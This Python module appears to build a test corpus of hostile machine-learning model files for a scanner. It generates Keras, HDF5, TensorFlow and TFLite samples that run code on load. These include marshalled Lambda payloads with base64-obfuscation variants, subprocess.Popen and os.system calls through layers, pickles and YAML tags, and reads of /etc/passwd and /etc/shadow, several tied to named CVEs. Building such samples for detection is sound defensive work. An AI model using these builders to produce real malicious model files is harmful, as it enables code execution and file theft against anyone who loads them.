"""Keras, TensorFlow and HDF5 files that run code or touch files, built by hand."""

from __future__ import annotations

import base64
import io
import json
import marshal
import struct
from collections.abc import Callable
from typing import Any

from .sample import ABUSES, EXECUTES, Kit, Maker, Sample
from .zipper import Entry, zipped

NO_TENSORFLOW = "built from the format's specification; TensorFlow is not installed"


def samples() -> list[Sample]:
    """All of this module."""
    return [*_keras(), *_hdf5(), *_tensorflow()]


def lambda_code(kit: Kit) -> str:
    """A marshalled `lambda x: x` that first runs the payload, in base64, as keras stores it."""
    outer = compile(
        f"lambda x: (__builtins__['open'] if isinstance(__builtins__, dict) else __builtins__.open)({kit.path!r}, 'w') and x",
        "x",
        "eval",
    )
    inner = next(constant for constant in outer.co_consts if hasattr(constant, "co_code"))
    return base64.b64encode(marshal.dumps(inner)).decode()


def _with_foreign_characters(text: str) -> str:
    """Base64 that `codecs.decode` reads all the same."""
    return "-_" + "!".join(text[start : start + 7] for start in range(0, len(text), 7))


def _as_characters(text: str) -> str:
    """The marshalled code itself, one character a byte: what `func_load` takes when the text is no base64."""
    return base64.b64decode(text).decode("latin-1")


def _spelt(kit: Kit, spell: Callable[[str], str]) -> dict[str, Any]:
    layer = _lambda_layer(kit)
    layer["config"]["function"]["config"]["code"] = spell(lambda_code(kit))
    return layer


def _keras_zip(config: dict[str, Any], *more: Entry) -> bytes:
    metadata = {"keras_version": "3.8.0", "date_saved": "2026-01-01@00:00:00"}
    return zipped(
        [
            Entry("metadata.json", json.dumps(metadata).encode()),
            Entry("config.json", json.dumps(config).encode()),
            Entry("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(40)),
            *more,
        ]
    )


def _tensor(name: str) -> dict[str, Any]:
    return {
        "class_name": "__keras_tensor__",
        "config": {"shape": [None, 2], "dtype": "float32", "keras_history": [name, 0, 0]},
    }


def _functional(layer: dict[str, Any]) -> dict[str, Any]:
    """A functional model: input → layer."""
    first = {
        "module": "keras.layers", "class_name": "InputLayer", "registered_name": None, "name": "i", "inbound_nodes": [],
        "config": {"batch_shape": [None, 2], "dtype": "float32", "sparse": False, "name": "i"},
    }  # fmt: skip
    second = {**layer, "name": "l", "inbound_nodes": [{"args": [_tensor("i")], "kwargs": {}}]}
    return {
        "module": "keras.src.models.functional", "class_name": "Functional", "registered_name": "Functional",
        "config": {"name": "m", "trainable": True, "layers": [first, second], "input_layers": [["i", 0, 0]], "output_layers": [["l", 0, 0]]},
        "build_config": {"input_shape": None},
    }  # fmt: skip


def _lambda_layer(kit: Kit) -> dict[str, Any]:
    return {
        "module": "keras.layers", "class_name": "Lambda", "registered_name": None,
        "config": {"name": "l", "trainable": True, "dtype": "float32", "arguments": {},
                   "function": {"class_name": "__lambda__", "config": {"code": lambda_code(kit), "defaults": None, "closure": None}}},
    }  # fmt: skip


def _module_call(kit: Kit) -> dict[str, Any]:
    """A "layer" that is any function of any module, called with the arguments of its node."""
    layer = {
        "name": "l",
        "class_name": "function",
        "config": "Popen",
        "module": "subprocess",
        "inbound_nodes": [{"args": [kit.argv], "kwargs": {"bufsize": -1}}],
    }
    ends = {"input_layers": [["l", 0, 0]], "output_layers": [["l", 0, 0]]}
    return {
        "module": "keras.models",
        "class_name": "Model",
        "config": {"name": "m", "trainable": True, "layers": [layer], **ends},
    }


def _custom(module: str, name: str) -> dict[str, Any]:
    return _functional(
        {"module": module, "class_name": name, "registered_name": f"Custom>{name}", "config": {"name": "l"}}
    )


def _sample(path: str, technique: str, make: Maker, **options: Any) -> Sample:
    options.setdefault("calls", ("Lambda", "lambda"))
    options.setdefault("needs", ("keras",))
    return Sample(f"keras/{path}", technique, EXECUTES, make, **options)


def _abuse(path: str, technique: str, make: Maker, **options: Any) -> Sample:
    return Sample(path, technique, ABUSES, make, **options)


def _keras() -> list[Sample]:
    return [
        _sample("lambda.keras", "a Lambda layer with marshalled code", lambda k: _keras_zip(_functional(_lambda_layer(k))), loader="keras"),
        _sample("lambda-renamed.zip", "the same under another extension", lambda k: _keras_zip(_functional(_lambda_layer(k))),
                unloaded="keras reads it by the .keras extension only"),
        _sample("lambda-nested.keras", "the Lambda layer lies in a model inside the model", lambda k: _keras_zip(
            _functional({**_functional(_lambda_layer(k)), "registered_name": None})), unloaded="loads only with the weights of the inner model"),
        _sample("lambda-foreign-characters.keras", "code in base64 with characters that the decoder passes over",
                lambda k: _keras_zip(_functional(_spelt(k, _with_foreign_characters))), loader="keras"),
        _sample("lambda-characters.keras", "code that is no base64 but stands there as it is",
                lambda k: _keras_zip(_functional(_spelt(k, _as_characters))), loader="keras"),
        _sample("lambda-initializer.keras", "code in the place of an initializer",
                lambda k: _keras_zip(_functional({
                    "module": "keras.layers", "class_name": "Dense", "registered_name": None,
                    "config": {"name": "l", "units": 1, "kernel_initializer": {
                        "class_name": "__lambda__", "config": {"value": [_with_foreign_characters(lambda_code(k)), None, None]}}},
                })), unloaded="runs when the weights are made; the oracle of Keras 3 takes `code` only"),
        _sample("lambda-old-format.keras", "a Lambda layer in the list form of Keras 2", lambda k: _keras_zip(_functional(
            {**_lambda_layer(k), "config": {"name": "l", "function_type": "lambda", "module": "__main__", "output_shape": None,
                                            "function": [lambda_code(k), None, None], "arguments": {}}})), unloaded="Keras 2 is not installed"),
        _sample("module-path.keras", "a layer that is any function of any module, in safe mode", lambda k: _keras_zip(_module_call(k)),
                loader="keras-safe", calls=("subprocess.Popen", "Popen", "subprocess"), reference="CVE-2025-1550", needs=("keras<3.9",)),
        _abuse("keras/custom-object.keras", "a class of a module outside keras", lambda _: _keras_zip(_custom("evil_package.layers", "EvilLayer"))),
        _abuse("keras/registered-os.keras", "a class_name that is a function of os", lambda _: _keras_zip(_custom("os", "system"))),
        _abuse("keras/get-file.keras", "keras.utils.get_file called as a layer downloads and unpacks", lambda _: _keras_zip(_functional(
            {"module": "keras.utils", "class_name": "function", "registered_name": None, "config": "get_file"})), reference="CVE-2025-8747"),
        _abuse("keras/stringlookup.keras", "StringLookup reads a vocabulary file while loading", lambda _: _keras_zip(_functional(
            {"module": "keras.layers", "class_name": "StringLookup", "registered_name": None,
             "config": {"name": "l", "vocabulary": "/etc/passwd"}})), reference="CVE-2025-12058"),
        _abuse("keras/torch-module-wrapper.keras", "TorchModuleWrapper unpickles its module", lambda k: _keras_zip(_functional(
            {"module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None,
             "config": {"name": "l", "module": base64.b64encode(_torch_module(k)).decode()}})), reference="CVE-2025-49655"),
        _abuse("keras/pickle-asset.keras", "a pickle among the assets", lambda k: _keras_zip(
            _custom("keras.layers", "Dense"), Entry("assets/layers/l/state.pkl", _hostile(k)))),
        _abuse("keras/second-config.keras", "two config.json: zip readers differ", lambda k: _keras_zip(
            _custom("keras.layers", "Dense"), Entry("config.json", json.dumps(_functional(_lambda_layer(k))).encode()))),
        _abuse("keras/model.json", "a bare architecture with a Lambda", lambda k: json.dumps(_functional(_lambda_layer(k))).encode()),
        _abuse("keras/architecture.yaml", "Keras 2 YAML with a Python object", lambda k: (
            f"backend: tensorflow\nclass_name: !!python/object/apply:os.system ['{k.shell}']\n").encode(), reference="CVE-2021-37678"),
    ]  # fmt: skip


def _hostile(kit: Kit) -> bytes:
    from .asm import Call, Global, pickled

    return pickled(Call(Global("os.system"), kit.shell), 4)


def _torch_module(kit: Kit) -> bytes:
    from .archives_torch import hostile, torch_zip

    return torch_zip(hostile(kit))


def _hdf5() -> list[Sample]:
    def legacy(config: Any, **attributes: str) -> bytes:
        import h5py

        out = io.BytesIO()
        with h5py.File(out, "w", track_order=False) as file:
            file.attrs["model_config"] = json.dumps(config)
            file.attrs["keras_version"] = "2.15.0"
            file.attrs["backend"] = "tensorflow"
            for name, value in attributes.items():
                file.attrs[name] = value
            file.create_group("model_weights")
        return out.getvalue()

    def old_lambda(kit: Kit) -> dict[str, Any]:
        return {"class_name": "Sequential", "config": {"name": "s", "layers": [
            {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 2], "dtype": "float32", "name": "i"}},
            {"class_name": "Lambda", "config": {"name": "l", "function_type": "lambda", "output_shape_type": "raw", "arguments": {},
                                                "function": [lambda_code(kit), None, None], "module": "__main__"}}]}}  # fmt: skip

    def external(kit: Kit) -> bytes:
        import h5py

        out = io.BytesIO()
        with h5py.File(out, "w") as file:
            file["weights"] = h5py.ExternalLink("/etc/passwd", "/")
        return out.getvalue()

    def external_storage(kit: Kit) -> bytes:
        import tempfile
        from pathlib import Path

        import h5py

        with tempfile.TemporaryDirectory() as folder:
            target = Path(folder) / "x.h5"
            with h5py.File(target, "w") as file:
                file.create_dataset("w", (16,), "u1", external=[("/etc/passwd", 0, 16)])
            return target.read_bytes()

    def virtual(kit: Kit) -> bytes:
        import h5py

        out = io.BytesIO()
        with h5py.File(out, "w") as file:
            layout = h5py.VirtualLayout((4,), "u1")
            layout[:] = h5py.VirtualSource("/etc/shadow.h5", "d", (4,))
            file.create_virtual_dataset("w", layout)
        return out.getvalue()

    def opaque(kit: Kit) -> bytes:
        import h5py
        import numpy as np

        out = io.BytesIO()
        with h5py.File(out, "w") as file:
            file.attrs["state"] = np.void(_hostile(kit))
        return out.getvalue()

    return [
        _sample("lambda.h5", "Keras 2 HDF5 with a Lambda layer", lambda k: legacy(old_lambda(k)), loader="", builder="h5py",
                unloaded="Keras 2 is not installed", reference="CVE-2024-3660"),
        _sample("lambda-keras3.h5", "HDF5 of Keras 3 with a Lambda layer", lambda k: legacy(_functional(_lambda_layer(k))), loader="keras",
                builder="h5py"),
        _sample("safe-mode-ignored.h5", "HDF5 with a Lambda layer; safe_mode was ignored for .h5", lambda k: legacy(_functional(_lambda_layer(k))),
                builder="h5py", unloaded="needs keras before 3.11.3 with its own check", reference="CVE-2025-9905"),
        _abuse("hdf5/external-link.h5", "an external link to /etc/passwd", external, builder="h5py", reference="CVE-2026-1669"),
        _abuse("hdf5/external-storage.h5", "a dataset whose bytes lie in /etc/passwd", external_storage, builder="h5py", reference="CVE-2026-1669"),
        _abuse("hdf5/virtual.h5", "a virtual dataset from a file outside", virtual, builder="h5py"),
        _abuse("hdf5/pickle-attribute.h5", "a pickle in an attribute", opaque, builder="h5py"),
    ]  # fmt: skip


def _varint(value: int) -> bytes:
    out = bytearray()
    while value > 127:
        out.append(value & 127 | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def field(number: int, value: bytes | int) -> bytes:
    """One protobuf field: a varint or a length-delimited value."""
    if isinstance(value, int):
        return _varint(number << 3) + _varint(value)
    return _varint(number << 3 | 2) + _varint(len(value)) + value


def _node(name: str, operation: str, *inputs: str, **attributes: bytes) -> bytes:
    body = field(1, name.encode()) + field(2, operation.encode())
    body += b"".join(field(3, source.encode()) for source in inputs)
    for key, value in attributes.items():
        body += field(5, field(1, key.encode()) + field(2, value))
    return field(1, body)


def _string_constant(name: str, text: str) -> bytes:
    tensor = field(1, 7) + field(2, b"") + field(8, text.encode())
    return _node(name, "Const", dtype=field(6, 7), value=field(8, tensor))


def _saved_model(*nodes: bytes, function: bytes = b"") -> bytes:
    graph = b"".join(nodes) + (field(2, function) if function else b"")
    return field(1, 1) + field(2, field(1, field(4, b"serve")) + field(2, graph))


def _tensorflow() -> list[Sample]:
    def write(kit: Kit) -> tuple[bytes, ...]:
        return (
            _string_constant("path", kit.path),
            _string_constant("text", "x"),
            _node("w", "WriteFile", "path", "text"),
        )

    def by(name: str, technique: str, make: Maker, *calls: str, **options: Any) -> Sample:
        return Sample(f"tensorflow/{name}", technique, EXECUTES, make, calls=calls, unloaded=NO_TENSORFLOW, **options)

    in_function = (
        lambda k: field(  # FunctionDefLibrary.function = 1 → FunctionDef: signature = 1, node_def = 3
            1,
            field(1, field(1, b"__inference"))
            + b"".join(field(3, node[2:] if node[1] < 128 else node[3:]) for node in write(k)),
        )
    )
    return [
        by("write/saved_model.pb", "WriteFile in the graph", lambda k: _saved_model(*write(k)), "WriteFile"),
        by("read/saved_model.pb", "ReadFile of /etc/passwd", lambda _: _saved_model(
            _string_constant("path", "/etc/passwd"), _node("r", "ReadFile", "path")), "ReadFile"),
        by("function/saved_model.pb", "WriteFile inside a function of the library", lambda k: _saved_model(
            _node("call", "PartitionedCall"), function=in_function(k)), "WriteFile"),
        by("pyfunc/saved_model.pb", "PyFunc runs Python by a token", lambda _: _saved_model(
            _node("p", "PyFunc", token=field(2, b"pyfunc_0"))), "PyFunc"),
        by("matching/saved_model.pb", "MatchingFiles lists a folder", lambda _: _saved_model(
            _string_constant("p", "/home/*"), _node("m", "MatchingFiles", "p")), "MatchingFiles"),
        by("save/saved_model.pb", "SaveV2 with an absolute path", lambda k: _saved_model(
            _string_constant("prefix", k.path), _node("s", "SaveV2", "prefix")), "SaveV2"),
        by("print/saved_model.pb", "PrintV2 into a file", lambda k: _saved_model(
            _string_constant("t", "x"), _node("p", "PrintV2", "t", output_stream=field(2, f"file://{k.path}".encode()))), "PrintV2"),
        by("custom/saved_model.pb", "an operation of no known library", lambda _: _saved_model(_node("x", "EvilCustomOp")), "EvilCustomOp"),
        by("frozen.pb", "a frozen graph with WriteFile", lambda k: b"".join(write(k)), "WriteFile"),
        by("dataset.pb", "a frozen graph that reads a file as a data set", lambda _: _string_constant("f", "/etc/passwd")
           + _node("d", "TextLineDataset", "f"), "TextLineDataset"),
        Sample("tensorflow/flex.tflite", "TFLite with a Flex (full TensorFlow) operation", ABUSES, _tflite),
        Sample("tensorflow/pickle-asset/saved_model.pb", "a pickle among the assets", ABUSES, lambda _: _saved_model(_node("x", "Identity")),
               extra={"assets.pkl": _hostile}),
    ]  # fmt: skip


def _tflite(_: Kit) -> bytes:
    """A minimal flatbuffer of schema 3: one operator code with the custom code `FlexWriteFile`."""
    text = b"FlexWriteFile"
    string = struct.pack("<I", len(text)) + text + b"\x00" * (4 - len(text) % 4)
    # root → model table (version, operator_codes) → vector → operator code table (custom_code) → string
    model_vtable = struct.pack("<HHHH", 8, 12, 4, 8)
    code_vtable = struct.pack("<HHHHH", 10, 8, 0, 4, 0) + b"\x00\x00"
    out = bytearray(struct.pack("<I", 0) + b"TFL3")
    model_vtable_at = len(out)
    out += model_vtable
    model_at = len(out)
    out += struct.pack("<iII", model_at - model_vtable_at, 3, 4)  # vector follows directly
    vector_at = len(out)
    out += struct.pack("<I", 1) + struct.pack("<I", 0)
    code_vtable_at = len(out)
    out += code_vtable
    code_at = len(out)
    out += struct.pack("<iI", code_at - code_vtable_at, 4)
    out += string
    struct.pack_into("<I", out, 0, model_at)
    struct.pack_into("<I", out, vector_at + 4, code_at - (vector_at + 4))
    return bytes(out)
